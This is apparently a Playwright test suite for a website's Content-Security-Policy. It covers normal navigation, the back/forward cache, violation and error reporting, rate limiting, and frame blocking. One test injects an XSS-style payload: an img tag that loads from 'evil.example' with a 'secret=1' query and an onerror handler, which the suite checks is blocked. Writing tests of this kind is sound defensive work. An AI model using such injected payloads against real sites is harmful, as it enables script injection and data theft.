/** The Content-Security-Policy in normal use: it stops nothing of ours, however a page is come to (docs/threats.md section 4). */

import type { Page } from "playwright-core";
import { describe, expect, it, vi } from "vitest";
import { newTab, stack, startJourneys, tab } from "#tests/support/journey.ts";
import { CONTENT_PATHS, OTHER_PATHS } from "#tests/support/public-pages.ts";
import { hydrated } from "#tests/support/visit.ts";

const PATHS = [...CONTENT_PATHS, ...OTHER_PATHS, "/tours/121", "/nope"];

startJourneys({ keepsPages: true });

const address = (path: string) => new URL(path, stack.site.url).href;

async function visit(page: Page, path: string): Promise<void> {
  await page.goto(address(path), { waitUntil: "load" });
  await hydrated(page);
}

/** A 404's own document is no trouble. */
const trouble = () => tab.trouble.filter((line) => !line.includes("404 (Not Found)"));

describe("in normal use the policy stops nothing", () => {
  it("on any page: cold, warm, reloaded", { timeout: 120_000 }, async () => {
    await newTab();
    for (const path of PATHS) {
      await visit(tab.page, path);
      expect(trouble(), path).toEqual([]);
    }
    // From the page cache by now, with another nonce.
    for (const path of ["/", "/faq", "/tours/121", "/cart/", "/videos/en", "/nope"]) {
      await visit(tab.page, path);
      await tab.page.reload({ waitUntil: "load" });
      await hydrated(tab.page);
    }
    expect(trouble()).toEqual([]);
    await tab.close();
  });

  it("by the client router, there and back again", { timeout: 120_000 }, async () => {
    await newTab();
    const { page } = tab;
    await visit(page, "/");
    const paths = PATHS.filter((path) => path !== "/" && path !== "/nope");
    for (const path of paths) {
      await page.evaluate((href) => {
        const link = document.createElement("a");
        link.href = href;
        document.body.appendChild(link);
        link.click();
        link.remove();
      }, path);
      await page.waitForFunction((to) => location.pathname === to && document.querySelector("h1") !== null, path);
    }
    for (const path of paths.toReversed().slice(1, 8)) {
      await page.goBack();
      await page.waitForFunction((to) => location.pathname === to, path);
    }
    await page.goForward();
    await page.waitForFunction((to) => location.pathname === to, paths.at(-7) ?? "");
    expect(trouble()).toEqual([]);
    await tab.close();
  });

  it("on a page the browser kept whole and shows again", async ({ skip }) => {
    await newTab();
    const { page } = tab;
    const away = async () => {
      await visit(page, "/faq");
      await page.waitForLoadState("networkidle");
      await page.evaluate(() => Object.assign(window, { kept: true }));
      await visit(page, "/about-us");
      // A page that was kept does not load again: there is no event but its arrival.
      await page.goBack({ waitUntil: "commit" });
      await page.waitForFunction(() => location.pathname === "/faq");
      return page.evaluate(() => "kept" in window);
    };
    // The browser lets a kept page go when another tab tells it of a new session: the first time it may.
    const isKept = (await away()) || (await away()) || (await away());
    // A browser that keeps pages says why it did not keep this one; the one of the npm package keeps none.
    const reasons = await page.evaluate(
      () =>
        (performance.getEntriesByType("navigation")[0] as { notRestoredReasons?: unknown }).notRestoredReasons ?? null,
    );
    if (!isKept && (reasons === null || /"masked"/.test(JSON.stringify(reasons)))) skip("This browser keeps no pages.");
    expect(isKept, JSON.stringify(reasons)).toBe(true);
    // Its scripts are alive: the client router follows a link of it.
    await page.evaluate(() => document.querySelector<HTMLAnchorElement>('a[href="/contact-us"]')?.click());
    await page.waitForFunction(() => location.pathname === "/contact-us");
    expect(await page.evaluate(() => "kept" in window)).toBe(true);
    expect(trouble()).toEqual([]);
    await tab.close();
  });
});

describe("what the policy stops", () => {
  const lines = async (event: string) => (await stack.logLines()).filter((line) => line.includes(`"event":"${event}"`));

  it("is told to the site by the browser itself, and so are errors", async () => {
    await newTab();
    await visit(tab.page, "/faq?email=somebody@example.com");
    await tab.page.evaluate(() => {
      const holder = document.createElement("div");
      holder.innerHTML = '<img src="https://evil.example/x.png?secret=1" onerror="window.__xss = 1">';
      document.body.appendChild(holder);
      setTimeout(() => {
        throw new Error("Broken on purpose");
      }, 0);
      void Promise.reject(new Error("Refused on purpose"));
    });
    const image = await vi.waitUntil(
      async () => (await lines("csp-violation")).find((line) => line.includes("img-src")),
      10_000,
    );
    expect(JSON.parse(image)).toMatchObject({
      page: "/faq",
      directive: "img-src",
      blocked: "https://evil.example/x.png",
    });
    for (const message of ["Error: Broken on purpose", "Error: Refused on purpose"])
      await expect.poll(async () => (await lines("client-error")).join()).toContain(message);
    expect((await stack.logLines()).join("\n")).not.toMatch(/somebody|secret=1/);
    expect(await tab.page.evaluate(() => "__xss" in window)).toBe(false);
    await tab.close();
  });

  it("an error in a loop is told five times", async () => {
    await newTab();
    await visit(tab.page, "/about-us");
    const sent: string[] = [];
    tab.page.on("request", (request) => request.url().endsWith("/_r/err") && sent.push(request.url()));
    await tab.page.evaluate(async () => {
      for (let n = 0; n < 50; n++)
        setTimeout(() => {
          throw new Error("again");
        }, 0);
      await new Promise((resolve) => setTimeout(resolve, 300));
    });
    expect(sent).toHaveLength(5);
    await tab.close();
  });

  it("a page of ours in a frame of somebody else's, or of our own, stays blank (docs/threats.md T21)", async () => {
    await newTab();
    for (const host of ["localhost", "canyon.localhost"]) {
      // A document without a policy of its own, on another site of the browser's mind or on ours.
      const page = `http://${host}:${stack.site.url.port}/framing`;
      await tab.page.route(page, (route) =>
        route.fulfill({ contentType: "text/html", body: `<iframe src="${address("/faq")}"></iframe>` }),
      );
      await tab.page.goto(page, { waitUntil: "load" });
      const frame = tab.page.frames().find((each) => each !== tab.page.mainFrame());
      expect(
        await frame?.evaluate(() => document.body.textContent?.includes("question") ?? false).catch(() => false),
      ).toBe(false);
      expect(frame?.url()).not.toBe(address("/faq"));
    }
    await tab.close();
  });
});
